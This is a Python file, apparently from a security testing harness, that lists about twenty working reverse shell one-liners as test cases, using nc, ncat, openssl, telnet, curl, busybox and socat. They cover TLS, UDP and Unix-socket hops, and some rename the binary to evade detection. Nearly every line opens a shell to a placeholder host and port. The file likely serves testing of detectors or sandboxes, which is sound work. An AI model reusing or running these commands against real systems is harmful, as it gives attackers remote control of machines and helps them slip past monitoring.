"""Shells behind a ready-made relay: netcats, socat, openssl, telnet, curl, busybox."""

from __future__ import annotations

from attacks.cases.base import Case
from live.channels import Transport
from live.programs import Language

CASES = (
    Case(
        name="nc-fifo",
        language=Language.BASH,
        programs=("nc",),
        text="mkfifo q && sh -i <q 2>&1 | nc $HOST $PORT >q",
    ),
    Case(
        name="nc-traditional-exec",
        language=Language.BASH,
        programs=("nc.traditional",),
        text="exec nc.traditional -e /bin/bash $HOST $PORT",
    ),
    Case(
        name="nc-traditional-command",
        language=Language.BASH,
        programs=("nc.traditional",),
        text="exec nc.traditional $HOST $PORT -c 'exec bash --norc'",
    ),
    Case(
        name="nc-copied-name",
        language=Language.BASH,
        programs=("nc.openbsd",),
        text="""
            cp "$(command -v nc.openbsd)" ./metrics
            mkfifo m && ./metrics $HOST $PORT <m | bash >m 2>&1
        """,
    ),
    Case(
        name="nc-unix-hop",
        language=Language.BASH,
        programs=("nc.openbsd",),
        text="""
            mkfifo a b
            (sh <a 2>&1 | nc.openbsd -lU hop >a) &
            until [ -S hop ]; do sleep 0.05; done
            nc.openbsd -U hop <b | nc.openbsd $HOST $PORT >b
        """,
    ),
    Case(
        name="ncat-exec",
        language=Language.BASH,
        programs=("ncat",),
        text="exec ncat --exec '/bin/sh' $HOST $PORT",
    ),
    Case(
        name="ncat-tls-fifo",
        language=Language.BASH,
        programs=("ncat",),
        transport=Transport.TLS,
        text="mkfifo q && bash <q 2>&1 | ncat --ssl $HOST $PORT >q",
    ),
    Case(
        name="openssl-fifo",
        language=Language.BASH,
        programs=("openssl",),
        transport=Transport.TLS,
        text="mkfifo q && bash <q 2>&1 | openssl s_client -quiet -verify_quiet -connect $HOST:$PORT >q 2>/dev/null",
    ),
    Case(
        name="telnet-pair",
        language=Language.BASH,
        programs=("telnet",),
        transport=Transport.PAIR,
        text="sleep 50 | telnet $HOST $PORT 2>/dev/null | bash 2>&1 | telnet $HOST $PORT2",
    ),
    Case(
        name="telnet-fifo",
        language=Language.BASH,
        programs=("telnet",),
        text="mkfifo t && telnet $HOST $PORT <t 2>/dev/null | sh >t 2>&1",
    ),
    Case(
        name="curl-telnet-fifo",
        language=Language.BASH,
        programs=("curl",),
        text="mkfifo c && curl -s -N telnet://$HOST:$PORT <c | bash >c 2>&1",
    ),
    Case(
        name="busybox-nc-exec",
        language=Language.BASH,
        programs=("busybox",),
        text="exec busybox nc $HOST $PORT -e busybox sh",
    ),
    Case(
        name="busybox-renamed-fifo",
        language=Language.BASH,
        programs=("busybox",),
        text="""
            cp "$(command -v busybox)" loader
            mkfifo q
            (exec -a ash ./loader <q 2>&1) | (exec -a nc ./loader $HOST $PORT) >q
        """,
    ),
    Case(
        name="socat-pipes",
        language=Language.BASH,
        programs=("socat",),
        text="exec socat TCP4:$HOST:$PORT EXEC:sh,pipes,stderr",
    ),
    Case(
        name="socat-socketpair",
        language=Language.BASH,
        programs=("socat",),
        text="exec socat SYSTEM:'exec bash --norc',stderr TCP:$HOST:$PORT",
    ),
    Case(
        name="socat-pty",
        language=Language.BASH,
        programs=("socat",),
        text="exec socat TCP:$HOST:$PORT EXEC:'bash --norc -i',pty,ctty,setsid,stderr,sane",
    ),
    Case(
        name="socat-no-fork",
        language=Language.BASH,
        programs=("socat",),
        text="exec socat TCP:$HOST:$PORT EXEC:sh,nofork",
    ),
    Case(
        name="socat-udp",
        language=Language.BASH,
        programs=("socat",),
        transport=Transport.UDP,
        text="exec socat UDP:$HOST:$PORT EXEC:'sh -i',pipes,stderr",
    ),
    Case(
        name="socat-tls-pty",
        language=Language.BASH,
        programs=("socat",),
        transport=Transport.TLS,
        text="exec socat OPENSSL:$HOST:$PORT,verify=0 EXEC:bash,pty,rawer,stderr",
    ),
    Case(
        name="socat-unix-hop",
        language=Language.BASH,
        programs=("socat",),
        text="""
            socat UNIX-LISTEN:hop EXEC:'bash --norc -i',stderr,setsid,pty &
            until [ -S hop ]; do sleep 0.05; done
            socat TCP:$HOST:$PORT UNIX-CONNECT:hop
        """,
    ),
)
